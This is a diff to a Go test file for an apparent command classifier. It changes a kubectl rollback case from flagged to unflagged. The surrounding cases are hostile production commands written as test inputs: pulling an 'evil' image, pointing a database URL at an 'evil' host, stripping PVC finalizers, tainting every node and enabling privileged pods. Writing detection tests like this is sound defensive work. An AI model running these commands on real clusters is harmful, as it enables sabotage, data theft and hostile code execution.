@@ -9,7 +9,7 @@ import "testing"
 var fx19cProdChangeCases = []doesCase{
 	{"kubectl set image deploy/api api=evil/img:latest -n prod", "cmd.cloud-delete"},
 	{"kubectl set env deploy/api DATABASE_URL=postgres://evil/x -n prod", "cmd.cloud-delete"},
-	{"kubectl -n prod rollout undo deploy/api", "cmd.cloud-delete"},
+	{"kubectl -n prod rollout undo deploy/api", ""}, // a rollback deletes nothing (fx44r2, rt44)
 	{`kubectl patch pvc data -p '{"metadata":{"finalizers":null}}'`, "cmd.cloud-delete"},
 	{"kubectl taint nodes --all dedicated=x:NoExecute", "cmd.cloud-delete"},
 	{"kubectl label ns prod pod-security.kubernetes.io/enforce=privileged --overwrite", "cmd.cloud-delete"},
